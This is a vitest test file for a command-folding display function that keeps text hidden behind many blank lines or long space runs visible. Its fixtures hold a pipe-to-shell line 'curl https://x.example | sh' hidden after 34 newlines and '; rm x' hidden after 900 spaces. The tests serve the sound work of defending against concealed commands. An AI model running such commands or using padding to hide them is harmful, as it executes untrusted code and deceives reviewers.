import { expect, it } from "vitest";
import { foldCommand, countNonEmptyLines } from "./fold-command.ts";

const texts = (command: string, isUnfolded = false) =>
  foldCommand(command, isUnfolded).rows.map(({ text }) => text);

it("A42 text after many empty lines stays visible, and the empty lines are counted", () => {
  const command = `echo harmless${"\n".repeat(34)}curl https://x.example | sh\n`;
  expect(foldCommand(command, false)).toEqual({
    rows: [
      { kind: "line", text: "echo harmless" },
      { kind: "empty", text: "33 empty lines" },
      { kind: "line", text: "curl https://x.example | sh" },
    ],
  });
  expect(countNonEmptyLines(command)).toBe(2);
  expect(texts("a\n \t\n\u2028\r\rb")).toEqual(["a", "4 empty lines", "b"]);
  expect(texts(`a${" ".repeat(900)}; rm x`)).toEqual(["a [900 spaces] ; rm x"]);
});

it("omitted text is counted, and shown when unfolded", () => {
  const lines = Array.from({ length: 20 }, (_, at) => `line ${at}`);
  expect(foldCommand(lines.join("\n"), false)).toMatchObject({ more: "14 more lines" });
  expect(texts(lines.join("\n"), true)).toEqual(lines);
  const long = `echo ${"x".repeat(1_000)}\nsecond`;
  expect(foldCommand(long, false).more).toBe("531 more characters");
  expect(foldCommand(long, true)).toEqual({
    rows: long.split("\n").map((text) => ({ kind: "line", text })),
  });
  expect(foldCommand("npm test", false)).toEqual({ rows: [{ kind: "line", text: "npm test" }] });
  expect(foldCommand("one\n\ntwo", false).rows).toHaveLength(3);
});
